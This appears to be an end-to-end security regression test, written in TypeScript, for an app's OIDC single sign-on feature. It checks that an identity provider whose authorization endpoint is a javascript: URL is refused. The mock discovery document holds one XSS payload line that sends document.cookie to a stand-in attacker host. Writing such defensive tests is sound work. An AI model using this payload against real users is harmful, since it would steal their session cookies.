/**
 * Hostile review: an organization's admin controls its IdP's discovery document entirely. One whose
 * authorization endpoint is not an http(s) URL (`javascript:` here: the console follows the discovered
 * URL with `window.location.assign`) is accepted at creation, and every sign-in through it then answers
 * 500 INTERNAL. oauth4webapi refuses to build the URL (so no script runs), but the refusal is an unhandled
 * error, not a clear SSO answer, and the connection should not have been accepted.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Browser, inOrg, startApp, stopApp, type E2eApp } from './helpers.js';
import { enterpriseOrg, fakeDns, verifiedAccount, verifyDomain } from './sso-helpers.js';

let c: E2eApp;
let server: Server;
let issuer = '';
const dns = fakeDns();

beforeAll(async () => {
  c = await startApp({ sso: { allowHttpIssuers: true, resolveTxt: dns.resolveTxt } });
  // An IdP of the attacker's choosing: a valid discovery document but for its authorization endpoint.
  server = createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    if (req.url === '/.well-known/openid-configuration') {
      res.end(
        JSON.stringify({
          issuer,
          authorization_endpoint: 'javascript:fetch("//evil.example/"+document.cookie)//',
          token_endpoint: `${issuer}/token`,
          jwks_uri: `${issuer}/jwks`,
          response_types_supported: ['code'],
          subject_types_supported: ['public'],
          id_token_signing_alg_values_supported: ['RS256'],
          code_challenge_methods_supported: ['S256'],
        }),
      );
    } else res.end(JSON.stringify({ keys: [] }));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  issuer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}, 60_000);
afterAll(async () => {
  await new Promise((r) => server?.close(r));
  await stopApp(c);
});

describe('review4: SSO redirect scheme', () => {
  it('an IdP whose authorization endpoint is not http(s) is refused, not a 500 at every sign-in', async () => {
    const domain = `evil-${randomBytes(4).toString('hex')}.test`;
    const owner = await verifiedAccount(c, `owner@${domain}`);
    const org = await enterpriseOrg(owner.browser, 'xss-sso');
    await verifyDomain(owner.browser, dns, org.id, domain);
    const created = await owner.browser.post(
      '/v1/sso/connections',
      {
        kind: 'oidc',
        name: 'Evil IdP',
        defaultRole: 'member',
        oidc: { issuer, clientId: 'client', clientSecret: 'secret-secret-secret' },
      },
      inOrg(org.id),
    );
    // Refusing the connection at creation (4xx) is the better fix; then there is nothing to sign in to.
    if (created.statusCode >= 400 && created.statusCode < 500) return;
    expect(created.statusCode, created.body).toBe(201);
    // A member on the sign-in page types an address of the domain and presses "Continue with SSO".
    const d = await new Browser(c).post('/v1/auth/sso/discover', {
      email: `victim@${domain}`,
      returnTo: '/',
    });
    // On main: 500 {"error":{"code":"INTERNAL"}} (OperationProcessingError: only HTTP and HTTPS requests
    // are allowed, thrown by buildAuthorizationUrl in oidc.protocol.ts startSignIn).
    expect(d.statusCode, d.body).toBeLessThan(500);
    if (d.statusCode === 200) {
      expect(new URL(d.json<{ redirectUrl: string }>().redirectUrl).protocol).toMatch(/^https?:$/);
    }
  });
});
